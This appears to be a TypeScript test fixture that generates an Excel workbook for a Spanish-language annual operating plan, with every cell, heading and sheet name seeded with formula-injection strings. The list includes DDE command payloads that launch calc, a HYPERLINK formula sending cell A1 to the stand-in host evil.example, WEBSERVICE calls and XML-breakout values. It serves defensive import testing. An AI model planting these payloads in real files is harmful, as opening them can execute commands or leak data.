import { makeBook, rowOf, type MadeSheet } from "../xlsx/makeBook";
import { HEADINGS } from "./planSheet";

/** What somebody writes into a cell in the hope that another program runs it. */
export const INJECTIONS: readonly string[] = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1+1)",
  "=cmd|'/C calc'!A0",
  "+cmd|' /C notepad'!'A1'",
  '=HYPERLINK("http://evil.example/?"&A1,"Ver")',
  '=WEBSERVICE("http://evil.example")',
  '=DDE("cmd","/C calc","x")',
  "=IMPORTXML(CONCAT(A1),A2)",
  "\t=1+1",
  "\n=1+1",
  "http://evil.example/",
  "mailto:a@evil.example",
  "\\\\evil.example\\share",
  "{=1+1}",
  "'=1+1",
  '";=1+1;"',
  "<f>1+1</f>",
  "]]></t></is><f>1+1</f>",
  "_x003D_1+1",
];

/** As XML spells it; what is written is what is meant. */
export const inXml = (text: string): string =>
  text
    .replace(/&/g, "&amp;")
    .replace(/</g, "&lt;")
    .replace(/>/g, "&gt;")
    .replace(/"/g, "&quot;")
    .replace(/_(?=x[0-9A-F]{4}_)/g, "_x005F_")
    .replace(/[\t\n]/g, (space) => `&#${space.charCodeAt(0)};`);

/** A plan with each injection as a code and as a text, as a heading of a further column, and as the name of the area and the sheet. */
export function injectedSheet(area: string, name: string): MadeSheet {
  const rows = [
    rowOf(1, "ÁREA ORGANIZACIONAL:", inXml(area)),
    rowOf(2, "GESTIÓN DEL POA:", 2021),
    rowOf(3, ...HEADINGS, ...INJECTIONS.slice(0, 4).map((text) => inXml(`${text} título`))),
    ...INJECTIONS.map((injection, i) => {
      const text = inXml(injection);
      const code = i % 2 === 0 ? text : `4.${i}`;
      return rowOf(i + 4, code, text, text, text, "5 %", text, text, text, text, text, text);
    }),
  ];
  return { name: inXml(name), rows: rows.join("") };
}

export const injectedBook = (area: string, name: string): Uint8Array =>
  makeBook({ sheets: [injectedSheet(area, name)] });
